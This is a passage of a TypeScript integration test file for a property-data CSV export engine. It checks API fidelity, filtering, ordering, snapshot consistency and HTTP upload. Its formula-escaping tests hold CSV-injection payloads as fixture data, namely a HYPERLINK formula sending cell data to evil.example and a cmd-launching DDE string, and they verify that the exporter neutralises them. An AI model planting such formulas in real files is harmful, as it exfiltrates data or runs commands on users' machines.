/**
 * The export engine over real Postgres, a real local HTTP server and a temporary export root: the CSV read back
 * equals what the list API serves (row for row, column for column, awkward values included), filters, order and
 * soft-deletes as in the API, one snapshot however the rows change while the file is written, the CSV-injection
 * option, and how each destination succeeds and fails.
 */
import { randomUUID } from 'node:crypto';
import { readdirSync, statSync } from 'node:fs';
import { mkdir, mkdtemp, readdir, readFile, rm, symlink } from 'node:fs/promises';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, inject, it, vi } from 'vitest';
import { ExportError, exportAutomation, type ExportDeps, type ExportedAutomation } from '../../activities/export';
import type { Resolver } from '../../activities/address-guard';
import { closeDb, type Db } from '../../db/client';
import { listRecords, retrieveRecord, type CommonListQuery, type FiltersOf } from '../../db/queries';
import { applyRecords, type ApplyContext } from '../../db/apply';
import { softDeleteUnseen } from '../../db/seen';
import { exportFileName, MONEY_FIELDS, RECORD_FIELDS } from '../../domain/automations';
import type { Entity, InputOf } from '../../domain/cdm';
import { LIST_QUERIES } from '../../domain/filters';
import { sealAutomationHeaders } from '../../domain/secrets';
import { makeTenant, testDb, testKeyring, type Tenant } from '../support/context';
import { leaseInput, leaseResidents, propertyInput, residentInput, unitInput, unsyncedIntegration } from '../support/fixtures';
import { until } from '../support/sync';

type Ref = { id: string; organizationId: string; mode: 'test' | 'live' };

/** A disk fault for the export's file writes: with `writeTo` set, every file it writes goes there instead (/dev/full: ENOSPC). */
const fsFaults = vi.hoisted(() => ({ writeTo: undefined as string | undefined }));
vi.mock('node:fs', async (importOriginal) => {
  const fs = await importOriginal<typeof import('node:fs')>();
  const createWriteStream = ((file: Parameters<typeof fs.createWriteStream>[0], options?: Parameters<typeof fs.createWriteStream>[1]) =>
    fsFaults.writeTo === undefined
      ? fs.createWriteStream(file, options)
      : fs.createWriteStream(fsFaults.writeTo, { flags: 'w' })) as typeof fs.createWriteStream;
  return { ...fs, default: { ...fs, createWriteStream }, createWriteStream };
});

let db: Db;
let a: Tenant; // the organization and integration under test (test mode)
let A: Ref;
let A2: Ref; // a second integration of the same organization: never in A's exports
let A3: Ref; // an integration with many residents, for batches
let live: Tenant; // a live-mode integration (SSRF guard)
let root: string; // the export root
let server: http.Server;
let base: string;
const ring = testKeyring();
const entities = ['property', 'unit', 'resident', 'lease'] as const;

/** Every request the destination server received, by path. */
const received = new Map<string, { method: string; headers: http.IncomingHttpHeaders; body: Buffer }>();
const hanging: http.ServerResponse[] = [];

const T0 = Date.parse('2025-06-01T00:00:00.000Z');
const at = (i: number) => new Date(T0 + i * 1000);

async function apply<E extends Entity>(integration: Ref, entity: E, inputs: InputOf[E][], now: Date, syncJobId?: string) {
  const ctx: ApplyContext = { integration, emitEvents: false, now, syncJobId };
  return db.transaction((tx) => applyRecords(tx, ctx, entity, inputs));
}

/** Values a CSV writer gets wrong: delimiters, quotes, line breaks, non-ASCII, padding, numbers-as-text, "" vs null. */
const AWKWARD = 'Comma, "Quoted" Place\nLine 2 – café 🏠';
const seed: { [E in Entity]: InputOf[E][][] } = {
  // Each inner list is applied at once (one created_at: ties broken by id).
  property: [
    [
      propertyInput('P1', {
        name: AWKWARD,
        description: '  padded both sides  ',
        tax_id: '00123',
        website_url: '',
        email: '=1+2',
        management_company_name: 'Ünïcödé GmbH — 株式会社',
        year_built: null,
        latitude: 30.123456789,
        address: { line_1: '1 "Main", St', line_2: 'Apt 4,\r\nrear entrance', city: 'São Paulo', state: null, postal_code: '01001-000', country: 'BR' },
        phones: [
          { type: 'office', number: '+1 (512) 555-0100', primary: true },
          { type: 'fax', number: '0044', primary: false },
        ],
        media: [{ url: 'https://example.com/a,b.jpg', caption: 'Line\nbreak "quoted"' }],
        custom_data: { note: 'a,b', nested: { emoji: '😀', quote: '"', list: [1, '2', null] }, empty: '' },
      }),
      propertyInput('P2', { name: null }),
      propertyInput('P3', { name: 'Same' }),
    ],
    [propertyInput('P4', { name: 'Same' }), propertyInput('P5', { name: '  Alpha  ' }), propertyInput('P6', { name: null })],
    [propertyInput('PX', { name: 'Gone Gardens' })],
  ],
  unit: [
    [
      unitInput('U1', 'P1', { unit_number: '007', floorplan_name: '', note: 'He said "hi",\nthen left\r\n', market_rent: null, square_feet: 1e6 }),
      unitInput('U2', 'P1', { unit_number: null, market_rent: { amount: 150050, currency: 'EUR' } }),
      unitInput('U3', 'P2', { unit_number: '101' }),
    ],
    [unitInput('U4', 'P3', { unit_number: '101' }), unitInput('U5', 'P3', { unit_number: null })],
    [unitInput('UX', 'P3', { unit_number: '999' })],
  ],
  resident: [
    [
      residentInput('R1', 'P1', {
        first_name: ' Zoë ',
        middle_name: '',
        last_name: `O'Brien, "Jr."`,
        email: 'x+tag@example.com',
        phones: null,
        address: null,
        custom_data: { 'key with space': 'value\twith tab', n: 1.5 },
      }),
      residentInput('R2', 'P1', { last_name: null }),
      residentInput('R3', 'P2', { last_name: 'Adams' }),
    ],
    [residentInput('R4', 'P3', { last_name: 'Adams' }), residentInput('R5', 'P3', { last_name: null })],
    [residentInput('RX', 'P3', { last_name: 'Gone' })],
  ],
  lease: [
    [
      leaseInput(
        'L1',
        { property: 'P1', unit: 'U1', residents: leaseResidents('R1', 'R2') },
        {
          notes: 'Line1\r\nLine2, "x"',
          concessions: '1 month free; 50% off',
          is_renewal: true,
          rent_amount: { amount: 150000, currency: 'JPY' },
          security_deposit: null,
          balance: { amount: -2550, currency: 'USD' },
          start_date: '2025-01-01',
          end_date: null,
        },
      ),
      leaseInput(
        'L2',
        { property: 'P1', unit: 'U2', residents: leaseResidents('R2') },
        { status: 'pending', start_date: '2025-03-01', end_date: '2026-02-28' },
      ),
      leaseInput(
        'L3',
        { property: 'P2', unit: 'U3', residents: leaseResidents('R3') },
        { status: 'active', start_date: '2025-03-01', end_date: null, is_renewal: null },
      ),
    ],
    [
      leaseInput('L4', { property: 'P3', unit: 'U4', residents: leaseResidents('R4') }, { status: 'ended', start_date: '2024-01-01', end_date: '2024-12-31' }),
      leaseInput(
        'L5',
        { property: 'P3', unit: 'U5', residents: leaseResidents('R5', 'R4') },
        { status: 'active', start_date: '2025-06-01', end_date: '2025-12-31', is_renewal: false },
      ),
    ],
    [leaseInput('LX', { property: 'P3', unit: 'U4', residents: leaseResidents('RX') }, { status: 'active', start_date: '2025-05-01' })],
  ],
};

/** Another test-mode integration of A's organization, with nothing in it. */
async function another(): Promise<Ref> {
  return { id: (await unsyncedIntegration(db, a.organizationId, { plan: 'scale' })).id, organizationId: a.organizationId, mode: 'test' };
}

beforeAll(async () => {
  db = testDb(4);
  a = await makeTenant(db);
  A = { id: a.integrationId, organizationId: a.organizationId, mode: 'test' };
  A2 = await another();
  A3 = await another();
  live = await makeTenant(db, { mode: 'live' });

  let second = 0;
  for (const entity of entities) for (const batch of seed[entity]) await apply(A, entity, batch as never, at(++second));
  // A later sync run sees everything but the X records and soft-deletes those.
  const job = 'syj_01JH00000000000000000000EX';
  for (const entity of entities) {
    await db.transaction(async (tx) => {
      const kept = seed[entity].flat().filter((i) => !i.x_id.endsWith('X'));
      await applyRecords(tx, { integration: A, emitEvents: false, syncJobId: job, now: at(29) }, entity, kept as never);
      await softDeleteUnseen(tx, { integration: A, emitEvents: false, syncJobId: job, now: at(30) }, entity);
    });
  }
  // The other integration of the same organization, with records that match every filter used here.
  await apply(A2, 'property', [propertyInput('QP', { name: 'Same' })], at(1));
  await apply(A2, 'unit', [unitInput('QU', 'QP', { unit_number: '101' })], at(2));
  await apply(A2, 'resident', [residentInput('QR', 'QP', { last_name: 'Adams' })], at(3));
  await apply(A2, 'lease', [leaseInput('QL', { property: 'QP', unit: 'QU', residents: leaseResidents('QR') }, { start_date: '2025-03-01' })], at(4));
  // 57 residents in three creations (so created_at ties), a quarter without a last name, many sharing one.
  await apply(A3, 'property', [propertyInput('BP')], at(1));
  for (let batch = 0; batch < 3; batch++) {
    const inputs = Array.from({ length: 19 }, (_, i) => {
      const n = batch * 19 + i;
      return residentInput(`B${n}`, 'BP', { last_name: n % 4 === 0 ? null : `Name ${n % 5}` });
    });
    await apply(A3, 'resident', inputs, at(10 + batch));
  }

  root = await mkdtemp(path.join(os.tmpdir(), 'propsync-exports-'));
  await mkdir(path.join(root, 'out'));
  server = http.createServer((req, res) => {
    // Answers 200 on the headers and hangs up before the file is in.
    if (req.url?.startsWith('/early/')) {
      res.writeHead(200, { connection: 'close' });
      res.end('ok', () => setTimeout(() => req.socket.destroy(), 50));
      return;
    }
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      const url = req.url ?? '/';
      received.set(url, { method: req.method ?? '', headers: req.headers, body: Buffer.concat(chunks) });
      const kind = url.split('/')[1];
      if (kind === 'hang') return void hanging.push(res);
      if (kind === 'early') return;
      const status = kind === 'ok' ? 200 : Number(kind?.replace(/^e/, ''));
      res.writeHead(status, { 'content-type': 'text/plain' });
      res.end(status === 200 ? 'stored' : `nope: ${status} from the destination`);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  for (const res of hanging) res.destroy();
  server?.closeAllConnections();
  await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
  if (root) await rm(root, { recursive: true, force: true });
  await closeDb(db);
});

// ---------------------------------------------------------------------------------------------------------------
// Helpers
// ---------------------------------------------------------------------------------------------------------------

const deps = (over: Partial<ExportDeps> = {}): ExportDeps => ({
  databaseUrl: inject('databaseUrl'),
  secrets: ring,
  exportRoot: root,
  timeoutMs: 10_000,
  ...over,
});

function automation(entity: Entity, over: Partial<ExportedAutomation> = {}, integration: Ref = A): ExportedAutomation {
  return {
    id: `atm_${randomUUID().replace(/-/g, '').slice(0, 26).toUpperCase()}`,
    entity,
    organizationId: integration.organizationId,
    integrationId: integration.id,
    filters: {},
    columns: null,
    destination: { type: 'http', url: `${base}/ok/${randomUUID()}` },
    destinationHeaders: null,
    ...over,
  };
}

/** Parse a file as a spreadsheet-minded reader would; an unquoted empty cell reads as null, a quoted one as ''. */
function parseCsv(body: Buffer): (string | null)[][] {
  return parse(body, { bom: true, cast: (value: string, ctx: { quoting: boolean }) => (value === '' && !ctx.quoting ? null : value) }) as (string | null)[][];
}

/** Exports over HTTP and returns the file's rows as the destination received it. */
async function exportRows(entity: Entity, filters: Record<string, string>, opts: { integration?: Ref; columns?: string[]; escapeFormulas?: boolean } = {}) {
  const destination = {
    type: 'http' as const,
    url: `${base}/ok/${randomUUID()}`,
    ...(opts.escapeFormulas === undefined ? {} : { escape_formulas: opts.escapeFormulas }),
  };
  const atm = automation(entity, { filters, columns: opts.columns ?? null, destination }, opts.integration);
  const result = await exportAutomation(deps(), { automation: atm, integration: opts.integration ?? A, fileName: 'x.csv' });
  const req = received.get(new URL((atm.destination as { url: string }).url).pathname)!;
  expect(result.bytes).toBe(req.body.length);
  const [header, ...rows] = parseCsv(req.body);
  expect(rows).toHaveLength(result.records);
  return { header: header!, rows, body: req.body, result };
}

/** Every record the list API serves for these query parameters (paged through), full records for properties. */
async function apiRecords(entity: Entity, params: Record<string, string>, integration: Ref = A): Promise<Record<string, unknown>[]> {
  const principal = { organizationId: integration.organizationId, mode: integration.mode };
  const out: Record<string, unknown>[] = [];
  for (let offset = 0; ; offset += 100) {
    const q = LIST_QUERIES[entity].parse({ ...params, integration_id: integration.id, limit: '100', offset: String(offset) }) as CommonListQuery &
      FiltersOf[Entity];
    const page = await listRecords(db, entity, principal, q);
    for (const r of page.results as { id: string }[]) {
      // The property list serves a summary; the record is what GET /v1/properties/{id} serves.
      out.push(entity === 'property' ? ((await retrieveRecord(db, entity, principal, r.id, true)) as unknown as Record<string, unknown>) : r);
    }
    if (!page.meta.hasMore) return out;
  }
}

/** The CSV header and cells of API records, spelled out independently of the code under test. */
function expectedHeader(entity: Entity): string[] {
  return RECORD_FIELDS[entity].flatMap((f) => (MONEY_FIELDS[entity].includes(f) ? [`${f}_amount`, `${f}_currency`] : [f]));
}
/**
 * A text value as the file shows it with formula escaping on (OWASP): a leading `'` when it starts with = + - @ TAB
 * or CR. In the API, numbers are numbers, and dates, times and ids never start so: only source text can.
 */
const spreadsheetSafe = (v: string) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);

/** Each cell of a record's row: text, null, or (objects and arrays, written as JSON text) the parsed value. */
type Cell = string | null | { json: unknown };
function expectedRow(entity: Entity, record: Record<string, unknown>, escapeFormulas = true): Cell[] {
  const text = (v: string) => (escapeFormulas ? spreadsheetSafe(v) : v);
  return RECORD_FIELDS[entity].flatMap((f): Cell[] => {
    const v = record[f];
    if (MONEY_FIELDS[entity].includes(f)) {
      const m = v as { amount: number; currency: string } | null;
      return m ? [String(m.amount), text(m.currency)] : [null, null];
    }
    if (v === null || v === undefined) return [null];
    if (typeof v === 'object') return [{ json: v }];
    return [typeof v === 'string' ? text(v) : String(v)];
  });
}
/** A file's row in expectedRow's terms: JSON text parsed where the record holds an object or an array. */
function cellsOf(entity: Entity, row: (string | null)[]): Cell[] {
  const header = expectedHeader(entity);
  return row.map((cell, i) => (cell !== null && JSON_FIELDS.has(header[i]!) ? { json: JSON.parse(cell) as unknown } : cell));
}
const JSON_FIELDS = new Set(['address', 'phones', 'media', 'custom_data', 'residents', 'resident_ids']);

async function expectSameAsApi(entity: Entity, filters: Record<string, string>, opts: { escapeFormulas?: boolean } = {}) {
  const { header, rows } = await exportRows(entity, filters, opts);
  const api = await apiRecords(entity, filters);
  expect(header).toEqual(expectedHeader(entity));
  for (const r of api) expect(Object.keys(r).sort()).toEqual([...RECORD_FIELDS[entity]].sort());
  expect(rows.map((r) => cellsOf(entity, r))).toEqual(api.map((r) => expectedRow(entity, r, opts.escapeFormulas ?? true)));
  return { rows, api };
}

const xIdsOf = (rows: (string | null)[][], entity: Entity) => rows.map((r) => r[RECORD_FIELDS[entity].indexOf('x_id')]);

/** An export cancelled as its first records come off the database, before the file is complete: it rethrows the reason. */
async function expectCancelledOnFirstRecords(atm: ExportedAutomation, integration: Ref): Promise<void> {
  const stop = new AbortController();
  const reason = new Error('cancelled by the test');
  const err = await exportAutomation(deps(), {
    automation: atm,
    integration,
    fileName: 'r.csv',
    signal: stop.signal,
    onProgress: () => stop.abort(reason),
  }).catch((e: unknown) => e);
  expect(err).toBe(reason);
}

/** An integration of its own whose export is larger than a connection buffers (4 MB of property descriptions). */
async function bigIntegration(): Promise<Ref> {
  const big = await another();
  await apply(
    big,
    'property',
    [propertyInput('BIG1', { description: 'x'.repeat(2_000_000) }), propertyInput('BIG2', { description: 'y'.repeat(2_000_000) })],
    at(1),
  );
  return big;
}

async function failure(p: Promise<unknown>): Promise<ExportError> {
  const err = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  expect(err).toBeInstanceOf(ExportError);
  return err as ExportError;
}

const toLoopback: Resolver = (_host, cb) => cb(null, [{ address: '127.0.0.1', family: 4 }]);

// ---------------------------------------------------------------------------------------------------------------
// Content
// ---------------------------------------------------------------------------------------------------------------

describe('the file is the list the API serves', () => {
  it.each(entities)('%s: every row and column, awkward values included', async (entity) => {
    const { rows, api } = await expectSameAsApi(entity, {});
    expect(api.length).toBe(seed[entity].flat().length - 1);
    expect(xIdsOf(rows, entity)).not.toContain(`${entity[0]!.toUpperCase()}X`);
    // And with formula escaping off, every value as the API has it.
    await expectSameAsApi(entity, {}, { escapeFormulas: false });
  });

  it('keeps awkward text exactly, tells "" from null, splits Money and writes nested values as JSON', async () => {
    const { header, rows } = await exportRows('property', { x_id: 'P1' });
    const p1 = Object.fromEntries(header.map((h, i) => [h, rows[0]![i]]));
    expect(p1).toMatchObject({
      name: AWKWARD,
      description: '  padded both sides  ',
      tax_id: '00123',
      website_url: '',
      // A formula, escaped for spreadsheets (on by default).
      email: "'=1+2",
      management_company_name: 'Ünïcödé GmbH — 株式会社',
      year_built: null,
      latitude: '30.123456789',
    });
    expect(JSON.parse(p1.custom_data!)).toEqual({ note: 'a,b', nested: { emoji: '😀', quote: '"', list: [1, '2', null] }, empty: '' });
    expect(JSON.parse(p1.address!)).toMatchObject({ line_1: '1 "Main", St', line_2: 'Apt 4,\r\nrear entrance', state: null });

    const lease = await exportRows('lease', { x_id: 'L1,L5' });
    const byX = new Map(lease.rows.map((r) => [r[lease.header.indexOf('x_id')], Object.fromEntries(lease.header.map((h, i) => [h, r[i]]))]));
    expect(byX.get('L1')).toMatchObject({
      rent_amount_amount: '150000',
      rent_amount_currency: 'JPY',
      security_deposit_amount: null,
      security_deposit_currency: null,
      balance_amount: '-2550',
      balance_currency: 'USD',
      is_renewal: 'true',
      notes: 'Line1\r\nLine2, "x"',
      end_date: null,
    });
    expect(byX.get('L5')).toMatchObject({ is_renewal: 'false' });
    expect(JSON.parse(byX.get('L1')!.residents!)).toEqual([
      expect.objectContaining({ x_id: 'R1', role: 'primary' }),
      expect.objectContaining({ x_id: 'R2', role: 'responsible' }),
    ]);
  });

  it('is UTF-8 with a byte order mark and LF line ends, "" for an empty string and nothing for a null', async () => {
    const { body } = await exportRows('unit', { x_id: 'U1' }, { escapeFormulas: false });
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = body.subarray(3).toString('utf8');
    expect(text.startsWith(`${expectedHeader('unit').join(',')}\n`)).toBe(true);
    expect(text.endsWith('\n')).toBe(true);
    expect(text.split('\n')).toHaveLength(2 + 2 + 1); // the header, the row with its note's two line breaks, the end
    // The note's own line breaks stay inside its quoted cell, as they were.
    expect(text).toContain('"He said ""hi"",\nthen left\r\n"');
    // An empty string (floorplan_name) is quoted; a null (market_rent) is nothing at all; text needing no quotes has none.
    expect(text).toMatch(/,U1,/);
    expect(text).toMatch(/,"",/);
    expect(text).toMatch(/,,,/);
    // Times at millisecond precision in UTC.
    expect(text).toMatch(/,2025-06-01T00:00:\d\d\.000Z,2025-06-01T00:00:\d\d\.000Z,,2025-06-01T00:00:\d\d\.000Z\n$/);
  });

  it('exports only the named columns, in their order', async () => {
    const { header, rows } = await exportRows('lease', { x_id: 'L1' }, { columns: ['x_id', 'rent_amount', 'is_renewal'] });
    expect(header).toEqual(['x_id', 'rent_amount_amount', 'rent_amount_currency', 'is_renewal']);
    expect(rows).toEqual([['L1', '150000', 'JPY', 'true']]);
  });

  it('refuses columns the entity does not have, and filters its list endpoint refuses, as permanent', async () => {
    const bad = automation('lease', { columns: ['x_id', 'password'] });
    const e1 = await failure(exportAutomation(deps(), { automation: bad, integration: A, fileName: 'x.csv' }));
    expect(e1).toMatchObject({ permanent: true, message: expect.stringContaining('password') });
    const badFilter = automation('lease', { filters: { start_date_gte: 'yesterday' } });
    const e2 = await failure(exportAutomation(deps(), { automation: badFilter, integration: A, fileName: 'x.csv' }));
    expect(e2).toMatchObject({ permanent: true, message: expect.stringContaining('start_date_gte') });
  });
});

describe('filters, order and visibility as in the API', () => {
  it('applies the list filters', async () => {
    const filters = { status: 'active', start_date_gte: '2025-02-01' };
    const { rows } = await expectSameAsApi('lease', filters);
    expect(xIdsOf(rows, 'lease').sort()).toEqual(['L3', 'L5']);
    const units = await expectSameAsApi('unit', { property_id: (await apiRecords('property', { x_id: 'P1' }))[0]!.id as string });
    expect(xIdsOf(units.rows, 'unit').sort()).toEqual(['U1', 'U2']);
    const residents = await expectSameAsApi('resident', { email: 'X+TAG@example.com' });
    expect(xIdsOf(residents.rows, 'resident')).toEqual(['R1']);
  });

  it.each([
    ['property', 'name:asc'],
    ['property', 'name:desc'],
    ['unit', 'unit_number:asc'],
    ['unit', 'unit_number:desc'],
    ['resident', 'last_name:asc'],
    ['resident', 'last_name:desc'],
    ['lease', 'end_date:asc'],
    ['lease', 'end_date:desc'],
    ['lease', 'start_date:desc'],
    ['lease', 'created_at:desc'],
    ['property', 'updated_at:asc'],
  ] as const)('%s order-by=%s (NULLs and ties) in the order the API lists', async (entity, order) => {
    const { rows, api } = await expectSameAsApi(entity, { 'order-by': order });
    expect(xIdsOf(rows, entity)).toEqual(api.map((r) => r.x_id));
  });

  it('puts NULLs last ascending and first descending, ties by id', async () => {
    const { rows } = await exportRows('property', { 'order-by': 'name:asc' });
    const names = rows.map((r) => r[RECORD_FIELDS.property.indexOf('name')]);
    expect(names).toEqual(['  Alpha  ', AWKWARD, 'Same', 'Same', null, null]);
    const ids = rows.map((r) => r[0]!);
    expect(ids[2]! < ids[3]!).toBe(true);
    expect(ids[4]! < ids[5]!).toBe(true);
    const desc = await exportRows('property', { 'order-by': 'name:desc' });
    expect(desc.rows.map((r) => r[0])).toEqual([ids[5], ids[4], ids[3], ids[2], ids[1], ids[0]]);
  });

  it('includes soft-deleted records only with include_deleted=true', async () => {
    for (const entity of entities) {
      const gone = `${entity[0]!.toUpperCase()}X`;
      const { rows } = await expectSameAsApi(entity, { include_deleted: 'true' });
      const row = rows.find((r) => r[RECORD_FIELDS[entity].indexOf('x_id')] === gone)!;
      expect(row[expectedHeader(entity).indexOf('deleted_at')]).toBe('2025-06-01T00:00:30.000Z');
      expect(xIdsOf((await exportRows(entity, { include_deleted: 'false' })).rows, entity)).not.toContain(gone);
    }
  });

  it("never includes another integration's records, whatever the filters say", async () => {
    for (const entity of entities) {
      const own = xIdsOf((await exportRows(entity, { integration_id: A2.id })).rows, entity);
      expect(own.length).toBeGreaterThan(0);
      expect(own.every((x) => !x!.startsWith('Q'))).toBe(true);
      const other = xIdsOf((await exportRows(entity, {}, { integration: A2 })).rows, entity);
      expect(other).toEqual([`Q${entity[0]!.toUpperCase()}`]);
    }
    // An automation is only ever run for its own integration.
    const err = await failure(exportAutomation(deps(), { automation: automation('lease', {}, A2), integration: { ...A, mode: 'live' }, fileName: 'x.csv' }));
    expect(err.permanent).toBe(true);
  });

  it('streams every row once, in every order, reporting its progress as it goes', async () => {
    const progress: number[] = [];
    for (const order of ['created_at:asc', 'created_at:desc', 'last_name:asc', 'last_name:desc', 'updated_at:desc']) {
      const atm = automation('resident', { filters: { 'order-by': order } }, A3);
      progress.length = 0;
      const r = await exportAutomation(deps(), { automation: atm, integration: A3, fileName: 'x.csv', onProgress: (n) => progress.push(n) });
      const body = received.get(new URL((atm.destination as { url: string }).url).pathname)!.body;
      const [, ...rows] = parseCsv(body);
      const api = await apiRecords('resident', { 'order-by': order }, A3);
      expect(api).toHaveLength(57);
      expect(rows.map((row) => row[0])).toEqual(api.map((x) => x.id));
      expect(new Set(rows.map((row) => row[0])).size).toBe(57);
      expect(r.records).toBe(57);
      // Counted as they go out, up to all of them.
      expect(progress.at(-1)).toBe(57);
      expect(progress.every((n, i) => n >= (progress[i - 1] ?? 0))).toBe(true);
    }
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Spreadsheets: CSV injection (OWASP)
// ---------------------------------------------------------------------------------------------------------------

describe('formula escaping for spreadsheets', () => {
  const FORMULAS = {
    name: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    description: '+1+1',
    email: "@SUM(1+1)*cmd|' /C calc'!A0",
    tax_id: '-2+3',
    management_company_name: '\t=1+1',
    pet_policy: '\r=1+1',
    smoking_policy: 'a=1, then =2', // starts with a letter: left alone
  };
  let F: Ref;
  beforeAll(async () => {
    F = await another();
    await apply(F, 'property', [propertyInput('-P1', { ...FORMULAS, latitude: -30.5, longitude: -97.25, year_built: -1 })], at(1));
  });
  const cell = (header: (string | null)[], row: (string | null)[], name: string) => row[header.indexOf(name)];

  it('is on by default: a text cell starting with = + - @ TAB or CR gets a leading quote and is quoted; numbers are left alone', async () => {
    const { header, rows, body } = await exportRows('property', {}, { integration: F });
    expect(rows).toHaveLength(1);
    const row = rows[0]!;
    for (const [field, value] of Object.entries(FORMULAS)) {
      expect(cell(header, row, field)).toBe(field === 'smoking_policy' ? value : `'${value}`);
    }
    expect(cell(header, row, 'x_id')).toBe("'-P1");
    // Negative numbers stay numbers; ids, dates and JSON are never touched.
    expect([cell(header, row, 'latitude'), cell(header, row, 'longitude'), cell(header, row, 'year_built')]).toEqual(['-30.5', '-97.25', '-1']);
    const text = body.subarray(3).toString('utf8');
    expect(text).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")",`);
    expect(text).toContain(`,"'+1+1",`);
    expect(text).toContain(`,"'-2+3",`);
    // Every text cell is quoted (OWASP: so a separator inside cannot start a new cell), numbers are not.
    expect(text).toContain(`,"a=1, then =2",`);
    expect(text).toContain(',"America/Chicago",');
    expect(text).toContain(',-30.5,-97.25,');
  });

  it('is the same with escape_formulas: true, and off with false: every value exactly as the API serves it', async () => {
    const on = await exportRows('property', {}, { integration: F, escapeFormulas: true });
    expect(cell(on.header, on.rows[0]!, 'description')).toBe("'+1+1");
    const off = await exportRows('property', {}, { integration: F, escapeFormulas: false });
    for (const [field, value] of Object.entries(FORMULAS)) expect(cell(off.header, off.rows[0]!, field)).toBe(value);
    expect(cell(off.header, off.rows[0]!, 'x_id')).toBe('-P1');
    expect(off.body.subarray(3).toString('utf8')).toContain(',+1+1,');
  });
});

// ---------------------------------------------------------------------------------------------------------------
// One snapshot
// ---------------------------------------------------------------------------------------------------------------

describe('one snapshot', () => {
  it('a record whose sort value changes while the file is written is neither skipped nor repeated; the file is the cache as it was', async () => {
    // Residents large enough (about 60 MB of CSV) that Postgres is still writing when the destination stops reading.
    const S = await another();
    const N = 40_000;
    await db.$client`
      insert into residents (id, organization_id, integration_id, mode, x_id, content_hash, created_at, updated_at, first_name, last_name)
      select 'rsd_SNAP' || lpad(n::text, 8, '0'), ${S.organizationId}::uuid, ${S.id}::uuid, 'test', 'S' || n, 'h',
             timestamptz '2025-01-01' + n * interval '1 second', timestamptz '2025-01-01', repeat('x', 1500), 'Name ' || n
      from generate_series(1, ${N}) n`;
    const ids = (n: number) => `rsd_SNAP${String(n).padStart(8, '0')}`;

    // The destination takes the first chunk, then stops reading until the test lets it go on.
    let paused!: () => void;
    const stalled = new Promise<void>((resolve) => (paused = resolve));
    let goOn!: () => void;
    const resumed = new Promise<void>((resolve) => (goOn = resolve));
    const chunks: Buffer[] = [];
    const slow = http.createServer((req, res) => {
      req.once('data', (c: Buffer) => {
        chunks.push(c);
        req.pause();
        paused();
        void resumed.then(() => {
          req.on('data', (more: Buffer) => chunks.push(more));
          req.resume();
        });
      });
      req.on('end', () => res.end('stored'));
    });
    await new Promise<void>((resolve) => slow.listen(0, '127.0.0.1', resolve));
    try {
      const atm = automation('resident', { destination: { type: 'http', url: `http://127.0.0.1:${(slow.address() as AddressInfo).port}/snap` } }, S);
      const running = exportAutomation(deps({ timeoutMs: 60_000 }), { automation: atm, integration: S, fileName: 'snap.csv' });
      await stalled;
      // Postgres itself is waiting for the export to read (backpressure reached the database): the COPY is mid-way.
      await until('the COPY to wait on its reader', async () => {
        const [r] = await db.$client<{ n: number }[]>`
          select count(*)::int as n from pg_stat_activity where application_name = 'propsync-export' and state = 'active' and wait_event = 'ClientWrite'`;
        return r!.n > 0 ? true : undefined;
      });
      // Meanwhile: the first resident (already sent) moves to the end of the order, the last one to the start, one
      // in the middle changes its name, another is deleted, and a new one appears at the start.
      await db.$client`update residents set created_at = timestamptz '2030-01-01', last_name = 'Moved' where id = ${ids(1)}`;
      await db.$client`update residents set created_at = timestamptz '2020-01-01' where id = ${ids(N)}`;
      await db.$client`update residents set last_name = 'Renamed' where id = ${ids(N / 2)}`;
      await db.$client`delete from residents where id = ${ids(N / 2 + 1)}`;
      await db.$client`
        insert into residents (id, organization_id, integration_id, mode, x_id, content_hash, created_at, updated_at)
        values ('rsd_SNAPNEW', ${S.organizationId}::uuid, ${S.id}::uuid, 'test', 'SNEW', 'h', timestamptz '2019-01-01', now())`;
      goOn();
      const result = await running;

      const [header, ...rows] = parseCsv(Buffer.concat(chunks));
      expect(result.records).toBe(N);
      expect(rows).toHaveLength(N);
      const idAt = header!.indexOf('id');
      const lastName = header!.indexOf('last_name');
      // Every resident once, in the order they had when the export began, with the values they had then.
      expect(rows.map((r) => r[idAt])).toEqual(Array.from({ length: N }, (_, i) => ids(i + 1)));
      expect(rows[0]![lastName]).toBe('Name 1');
      expect(rows[N / 2 - 1]![lastName]).toBe(`Name ${N / 2}`);
      expect(rows[N / 2]![idAt]).toBe(ids(N / 2 + 1));
    } finally {
      slow.closeAllConnections();
      await new Promise<void>((resolve) => slow.close(() => resolve()));
    }
  }, 120_000);
});

// ---------------------------------------------------------------------------------------------------------------
// HTTP destination
// ---------------------------------------------------------------------------------------------------------------

describe('HTTP destination', () => {
  it('PUTs the file by default, streamed, with its type, its name and the destination headers', async () => {
    const atm = automation('unit', {});
    atm.destinationHeaders = sealAutomationHeaders(ring, atm.id, { Authorization: 'Bearer s3cret', 'X-Api-Key': 'k,1' });
    const fileName = exportFileName('Weekly units – ü', 'arun_01JH0000000000000000000000');
    const r = await exportAutomation(deps(), { automation: atm, integration: A, fileName });
    const req = received.get(new URL((atm.destination as { url: string }).url).pathname)!;
    expect(req.method).toBe('PUT');
    expect(req.headers).toMatchObject({
      'content-type': 'text/csv; charset=utf-8',
      authorization: 'Bearer s3cret',
      'x-api-key': 'k,1',
      'transfer-encoding': 'chunked',
    });
    expect(req.headers['content-disposition']).toBe(
      `attachment; filename="Weekly units _ _-arun_01JH0000000000000000000000.csv"; filename*=UTF-8''${encodeURIComponent(fileName)}`,
    );
    expect(r.records).toBe(5);
    expect(parseCsv(req.body)).toHaveLength(6);
  });

  it('headers sealed for another automation do not open: permanent, and never in the message', async () => {
    const atm = automation('unit', {});
    atm.destinationHeaders = sealAutomationHeaders(ring, 'atm_SOMEONE_ELSE', { authorization: 'Bearer s3cret' });
